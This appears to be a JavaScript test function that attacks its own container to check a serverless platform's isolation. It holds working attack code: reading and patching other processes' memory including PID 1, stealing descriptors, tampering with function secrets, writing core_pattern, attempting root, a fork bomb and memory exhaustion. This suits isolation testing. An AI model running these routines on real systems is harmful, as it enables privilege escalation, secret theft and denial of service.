// A function that turns against its machine, as far as its level of isolation lets it: answers a POST, whose
// content names the attack, with what came of it: `done`, or the name of an error for each try.
import { spawn, spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { lookup } from 'node:dns'
import {
  chmodSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { createRequire } from 'node:module'
import { connect } from 'node:net'
import { pathToFileURL } from 'node:url'
import { getSystemErrorName } from 'node:util'
import { Worker } from 'node:worker_threads'
import { worth } from './worth.mjs'

/** The container's own modules and packages: it was started with the worker's path. */
const worker = pathToFileURL(process.argv[1])
const { probe } = await import(new URL('../../transfer/native/libc.js', worker).href)
const koffi = createRequire(worker)('koffi')
const libc = koffi.load(null)
const syscall = libc.func('long syscall(long, ...)')

/** Numbers by architecture, as in the kernel's headers. */
const X64 = process.arch === 'x64'
const NUMBERS = {
  ptrace: X64 ? 101 : 117,
  unshare: X64 ? 272 : 97,
  setns: X64 ? 308 : 268,
  mount: X64 ? 165 : 40,
  connect: X64 ? 42 : 203,
  ioctl: X64 ? 16 : 29,
  prctl: X64 ? 157 : 167,
  bpf: X64 ? 321 : 280,
  keyctl: X64 ? 250 : 219,
  userfaultfd: X64 ? 323 : 282,
  perf_event_open: X64 ? 298 : 241,
  io_uring_setup: 425,
  pidfd_open: 434,
  pidfd_getfd: 438,
  memfd_create: X64 ? 319 : 279,
}

/** @returns `done`, or the name of the error */
function call(name, ...args) {
  const typed = args.flatMap(one => ['uintptr_t', one])
  const result = syscall(NUMBERS[name], ...typed)
  return result < 0 ? getSystemErrorName(-koffi.errno()) : 'done'
}

function trying(work) {
  try {
    work()
    return 'done'
  } catch (error) {
    return error.code ?? error.message
  }
}

const settled = promise =>
  promise.then(
    () => 'done',
    error => error.code ?? error.message,
  )

function reaching(options) {
  return settled(
    new Promise((resolve, reject) => {
      const socket = connect(options)
      socket.setTimeout(3000, () => reject(new Error('timeout')))
      socket.once('connect', resolve)
      socket.once('error', reject)
    }),
  )
}

function sending(port, address) {
  return settled(
    new Promise((resolve, reject) => {
      const socket = createSocket('udp4')
      socket.once('error', reject)
      socket.send('x', port, address, error => (error ? reject(error) : resolve()))
    }),
  )
}

const memory = Buffer.alloc(64)

koffi.struct('Local', { base: 'uint8_t *', length: 'size_t' })
koffi.struct('Remote', { base: 'uintptr_t', length: 'size_t' })
const readv = libc.func('long process_vm_readv(int, Local *, ulong, Remote *, ulong, ulong)')
const PTRACE_SEIZE = 0x4206

/** What may be read and written of another process. @param gently without what would hurt it */
function intrusions(pid, gently) {
  const peeks = {
    mem: trying(() => readSync(openSync(`/proc/${pid}/mem`, 'r+'), memory, 0, 8, 4096)),
    environ: trying(() => readFileSync(`/proc/${pid}/environ`)),
    descriptors: trying(() => readdirSync(`/proc/${pid}/fd`)),
    signal: trying(() => process.kill(pid, 0)),
  }
  if (gently) return peeks
  const length = 8
  const read = readv(pid, { base: memory, length }, 1, { base: 4096, length }, 1, 0)
  return {
    ...peeks,
    vm: read < 0 ? getSystemErrorName(-koffi.errno()) : 'done',
    ptrace: call('ptrace', PTRACE_SEIZE, pid, 0, 0),
    pidfd: stealing(pid),
    kill: trying(() => process.kill(pid, 'SIGTERM')),
  }
}

/** Takes a descriptor out of another process. */
function stealing(pid) {
  const pidfd = syscall(NUMBERS.pidfd_open, 'uintptr_t', pid, 'uintptr_t', 0)
  if (pidfd < 0) return getSystemErrorName(-koffi.errno())
  return call('pidfd_getfd', Number(pidfd), 4, 0)
}

/** How system calls of a process are filtered; nothing of one that has ended meanwhile. */
function filterOf(pid) {
  try {
    return readFileSync(`/proc/${pid}/status`, 'utf8').match(/^Seccomp:\s+(.*)$/m)?.[1]
  } catch {
    return undefined
  }
}

function clientSocket() {
  return readdirSync('/proc/self/fd')
    .map(Number)
    .find(fd => {
      try {
        return probe().libc.domainOf(fd) === 'tcp'
      } catch {
        return false
      }
    })
}

/** How many names can be listed in a folder. */
function deep(folder) {
  try {
    return readdirSync(folder).length
  } catch {
    return 0
  }
}

const ATTACKS = {
  /** Says what it finds itself to be. */
  nothing: (_, context) => ({
    container: context.connection.container,
    pid: process.pid,
    uid: process.getuid(),
    processes: readdirSync('/proc').filter(name => /^\d+$/.test(name)).length,
    ...Object.fromEntries(
      readFileSync('/proc/self/status', 'utf8')
        .split('\n')
        .map(line => line.split(':\t')),
    ),
  }),
  worth: options => worth(call, options),
  /** Other processes, by the numbers that the machine has for them, and all that it sees itself. */
  processes: ({ pids, gently }) => ({
    named: Object.fromEntries(pids.map(pid => [pid, intrusions(pid, gently)])),
    seen: readdirSync('/proc')
      .filter(name => /^\d+$/.test(name) && Number(name) !== process.pid)
      .map(pid => ({
        mem: trying(() => readSync(openSync(`/proc/${pid}/mem`, 'r+'), memory, 0, 8, 4096)),
        filter: filterOf(pid),
      })),
  }),
  files: ({ read, write }) => ({
    read: Object.fromEntries(
      read.map(path => [
        path,
        trying(() => {
          if (readFileSync(path).length === 0) throw new Error('empty')
        }),
      ]),
    ),
    listed: Object.fromEntries(
      read.map(path => [
        path,
        trying(() => {
          if (readdirSync(path).length === 0) throw new Error('empty')
        }),
      ]),
    ),
    write: Object.fromEntries(write.map(path => [path, trying(() => writeFileSync(path, 'x'))])),
  }),
  /** Where OpenFaaS's functions find their secrets, and where ours are told that they are. */
  secrets: ({ name }) => {
    const found = folder =>
      trying(() => {
        const names = readdirSync(folder)
        if (names.join() !== name) throw new Error(`there is ${names}`)
        if (`of-${readFileSync(`${folder}/${name}`, 'utf8')}` !== name) throw new Error('another one')
      })
    const folders = { usual: '/var/openfaas/secrets', told: process.env.secret_mount_path }
    const all = Object.entries(folders)
    return {
      ...Object.fromEntries(all.map(([key, folder]) => [key, found(folder)])),
      ...Object.fromEntries(
        all.flatMap(([key, folder]) => [
          [`${key} changed`, trying(() => writeFileSync(`${folder}/${name}`, 'x'))],
          [`${key} opened`, trying(() => chmodSync(`${folder}/${name}`, 0o600))],
          [`${key} removed`, trying(() => unlinkSync(`${folder}/${name}`))],
          [`${key} added`, trying(() => writeFileSync(`${folder}/more`, 'x'))],
          [`${key} linked`, trying(() => symlinkSync('/', `${folder}/more`))],
        ]),
      ),
      others: readdirSync('/dev/shm').filter(
        one => /^hotpotato-secrets/.test(one) && deep(`/dev/shm/${one}`) > 1,
      ).length,
    }
  },
  async network({ control, abstract, port }) {
    return {
      control: await reaching({ path: control }),
      abstract: await reaching({ path: `\0${abstract}` }),
      tcp: await reaching({ port, host: '127.0.0.1' }),
      tcp6: await reaching({ port, host: '::1' }),
      outside: await reaching({ port: 53, host: '192.0.2.1' }),
      udp: await sending(9, '127.0.0.1'),
      dns: await settled(
        new Promise((resolve, reject) => lookup('example.com', error => (error ? reject(error) : resolve()))),
      ),
    }
  },
  /** The socket of the client that asks. It is of the network outside. */
  socket({ port }) {
    const fd = clientSocket()
    const nowhere = Buffer.alloc(16)
    const somewhere = Buffer.from([2, 0, port >> 8, port & 255, 127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0])
    const interfaces = Buffer.alloc(64)
    return {
      found: typeof fd,
      connect: connecting(fd, somewhere),
      disconnect: connecting(fd, nowhere),
      interfaces: asking(fd, 0x8913, interfaces),
      namespace: asking(fd, 0x894c, interfaces),
    }
  },
  kernel: () => ({
    unshare: call('unshare', 0x10000000),
    mount: call('mount', 0, 0, 0, 0, 0),
    bpf: call('bpf', 0, 0, 0),
    keyctl: call('keyctl', 0, 0, 0),
    userfaultfd: call('userfaultfd', 0),
    perf: call('perf_event_open', 0, 0, 0, 0, 0),
    uring: call('io_uring_setup', 0, 0),
    setuid: trying(() => process.setuid(0)),
    su: spawnSync('su', ['-c', 'id -u'], { encoding: 'utf8' }).stdout?.trim() ?? 'none',
    parting: call('prctl', 1, 0, 0, 0, 0),
    core: trying(() => writeFileSync('/proc/sys/kernel/core_pattern', '|/bin/false')),
    status: readFileSync('/proc/self/status', 'utf8').match(/^CapEff:\s+(.*)$/m)?.[1],
  }),
  spin() {
    setTimeout(() => {
      for (;;);
    }, 20)
    return 'spins'
  },
  fork() {
    // No faster than a machine bears on which others work; they live until a slow one has enough of them.
    setInterval(() => spawn('sleep', ['97'], { stdio: 'ignore' }).on('error', () => {}), 2)
    return 'forks'
  },
  /** Processes whose parents have ended: no children of its own any more. */
  orphans() {
    const one = 'for i in $(seq 30); do (sleep 97 &); done'
    for (let i = 0; i < 12; i++) spawn('sh', ['-c', one], { stdio: 'ignore' }).on('error', () => {})
    return 'leaves'
  },
  /** Each starts two, at once. It is tried only where the kernel holds it. */
  bomb() {
    spawn('sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore' }).on('error', () => {})
    return 'bursts'
  },
  eat() {
    const eaten = []
    setInterval(() => eaten.push(Buffer.alloc(8 * 1024 * 1024, 1)), 10)
    return 'eats'
  },
  /** Memory that is none of its own pages: files that have no name in any folder. */
  hoard() {
    const piece = Buffer.alloc(8 * 1024 * 1024, 1)
    setInterval(() => {
      const fd = Number(syscall(NUMBERS.memfd_create, 'char *', 'hoard', 'uintptr_t', 0))
      if (fd >= 0) writeSync(fd, piece)
    }, 10)
    return 'hoards'
  },
  /** Has the first process of its namespace never end: it goes round where it is. One more is left there. */
  cling() {
    const [, at] = /(0x[0-9a-f]+)\s*$/.exec(readFileSync('/proc/1/syscall', 'latin1'))
    const round = X64 ? Uint8Array.of(0xeb, 0xfe) : Uint8Array.of(0, 0, 0, 0x14)
    const memory = openSync('/proc/1/mem', 'r+')
    spawnSync('sh', ['-c', 'sleep 97 &'], { stdio: 'ignore' })
    return { taken: trying(() => writeSync(memory, round, 0, round.length, Number(at))) }
  },
  threads() {
    return new Worker('', { eval: true }).threadId
  },
}

const connectCall = libc.func('int connect(int, uint8_t *, uint32_t)')
const ioctlCall = libc.func('int ioctl(int, unsigned long, uint8_t *)')

function connecting(fd, address) {
  return connectCall(fd, address, address.length) < 0 ? getSystemErrorName(-koffi.errno()) : 'done'
}

function asking(fd, request, bytes) {
  return ioctlCall(fd, request, bytes) < 0 ? getSystemErrorName(-koffi.errno()) : 'done'
}

export default async (request, context) => {
  const { attack, ...options } = await request.json()
  return Response.json((await ATTACKS[attack](options, context)) ?? {})
}
